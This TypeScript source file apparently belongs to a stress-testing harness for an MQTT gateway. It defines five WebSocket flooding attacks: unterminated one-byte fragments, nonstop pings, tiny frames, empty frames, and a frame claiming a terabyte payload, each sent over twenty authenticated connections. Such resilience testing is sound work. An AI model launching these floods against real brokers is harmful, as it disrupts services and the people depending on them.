import { randomBytes } from 'node:crypto';
import type { Attack } from '../attack.js';
import type { Field } from '../attacker/field.js';
import { connectBytes, Wire } from '../mqtt-socket.js';
import { asClient } from '../site.js';

const [CONTINUATION, BINARY, PING] = [0x0, 0x2, 0x9];
const FIN = 0x80;
const MASKED = 0x80;
const [LENGTH_16, LENGTH_64] = [126, 127];
const SMALL = 125;
const CONNECTIONS = 20;
const BATCH = 500;
const HUGE_BYTES = 2 ** 40;

/** A client's frame (RFC 6455, 5.2) with a zero mask, which is as valid as any other. */
function frame(opcode: number, payload: Buffer, isFinal = true, claimed = payload.length): Buffer {
  const first = opcode | (isFinal ? FIN : 0);
  const mask = Buffer.alloc(4);
  if (claimed <= SMALL) return Buffer.concat([Buffer.of(first, MASKED | claimed), mask, payload]);
  const isShort = claimed < 65_536;
  const length = Buffer.alloc(isShort ? 2 : 8);
  if (isShort) length.writeUInt16BE(claimed);
  else length.writeBigUInt64BE(BigInt(claimed));
  const head = Buffer.of(first, MASKED | (isShort ? LENGTH_16 : LENGTH_64));
  return Buffer.concat([head, length, mask, payload]);
}

async function upgrade(field: Field, index: number): Promise<Wire> {
  const wire = new Wire(field.endpoint('http', index));
  if (!(await wire.opened())) throw new Error('not connected');
  const answered = new Promise<string>((resolve) => {
    wire.socket.once('data', (data) => resolve(data.toString('latin1')));
  });
  await wire.write(
    [
      'GET /mqtt HTTP/1.1',
      'Host: gateway',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Protocol: mqtt',
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
      '',
      '',
    ].join('\r\n'),
  );
  const answer = await Promise.race([answered, wire.closed.then(() => '')]);
  if (!answer.startsWith('HTTP/1.1 101')) throw new Error('not upgraded');
  wire.socket.resume();
  field.count('upgraded');
  return wire;
}

/** Logs in over WebSocket as the attacker's device, then sends the same frames as fast as they are read. */
function frames(name: string, what: string, first: Buffer, batch: Buffer): Attack {
  return {
    name,
    surface: 'http',
    what: `one device over ${CONNECTIONS} WebSocket connections: ${what}`,
    isForMosquitto: false,
    arm: (site) => site.arms(1),
    run: (field) =>
      field.repeat(CONNECTIONS, async (index) => {
        const [device] = field.arms.devices;
        if (device === undefined) return;
        const wire = await upgrade(field, index);
        const login = asClient(device, `${device.username}-${index}`);
        await wire.write(frame(BINARY, connectBytes(login)));
        if (first.length > 0) await wire.write(first);
        while (!field.isOver && (await wire.write(batch))) field.count('batches');
        await wire.closed;
      }),
  };
}

function many(one: Buffer, count = BATCH): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => one));
}

const NONE = Buffer.alloc(0);
const PINGREQ = Buffer.of(0xc0, 0);

export const WEBSOCKET: readonly Attack[] = [
  frames(
    'websocket-fragments',
    'a message in fragments of one byte without an end',
    frame(BINARY, Buffer.of(0x30), false),
    many(frame(CONTINUATION, Buffer.of(0x7f), false)),
  ),
  frames(
    'websocket-pings',
    'pings of 125 bytes without a pause',
    NONE,
    many(frame(PING, Buffer.alloc(SMALL, 'x'))),
  ),
  frames('websocket-tiny', 'each packet a frame of its own', NONE, many(frame(BINARY, PINGREQ))),
  frames('websocket-empty', 'frames without a payload', NONE, many(frame(BINARY, NONE))),
  frames(
    'websocket-huge',
    'a frame that claims to have a terabyte',
    frame(BINARY, Buffer.alloc(1_024), true, HUGE_BYTES),
    Buffer.alloc(65_536),
  ),
];
